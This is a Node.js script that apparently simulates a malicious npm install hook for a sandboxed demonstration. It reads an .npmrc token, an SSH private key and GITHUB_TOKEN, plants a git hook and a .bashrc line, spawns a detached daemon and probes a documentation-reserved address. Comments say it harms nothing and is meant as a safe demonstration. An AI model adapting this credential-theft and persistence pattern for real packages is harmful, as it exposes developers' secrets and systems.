'use strict';
// The usual theft, with nothing at stake. It touches only the throw-away home that
// run.sh made (named in the file `demo-home`, which only run.sh writes) and the
// throw-away project; without that file it does nothing. It sends nothing: the one
// connection goes to an address reserved for documentation and is closed at once.
// Like the real thing it is silent and always exits 0.
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const { spawn } = require('node:child_process');

const loot = {};

function attempt(name, act) {
  try {
    loot[name] = act() ?? 'done';
  } catch (error) {
    loot[name] = `failed: ${error.code ?? error.message}`;
  }
}

function connect(host, port, patience) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const timer = setTimeout(() => finish('no answer'), patience);
    function finish(result) {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    }
    socket.once('connect', () => finish('connected'));
    socket.once('error', (error) => finish(`failed: ${error.code}`));
  });
}

async function main() {
  const home = fs.readFileSync(path.join(__dirname, 'demo-home'), 'utf8').trim();
  const project = process.env.INIT_CWD ?? path.resolve(__dirname, '../..');

  attempt('npm-token', () => fs.readFileSync(path.join(home, '.npmrc'), 'utf8'));
  attempt('ssh-key', () => fs.readFileSync(path.join(home, '.ssh/id_ed25519'), 'utf8'));
  attempt('env-token', () => process.env.GITHUB_TOKEN ?? 'failed: not set');
  attempt('git-hook', () => {
    const hook = path.join(project, '.git/hooks/pre-commit');
    fs.writeFileSync(hook, '#!/bin/sh\n# color-stringz was here\nexit 0\n', { mode: 0o755 });
  });
  attempt('shell-start', () => fs.appendFileSync(path.join(home, '.bashrc'), '# color-stringz was here\n'));
  attempt('daemon', () => {
    const options = { detached: true, stdio: 'ignore' };
    spawn(process.execPath, [path.join(__dirname, 'daemon.js')], options).on('error', () => {}).unref();
  });
  loot.connect = await connect('203.0.113.10', 443, 1000);

  attempt('report', () => fs.writeFileSync(path.join(__dirname, 'loot.json'), `${JSON.stringify(loot, null, 2)}\n`));
}

main().catch(() => {});
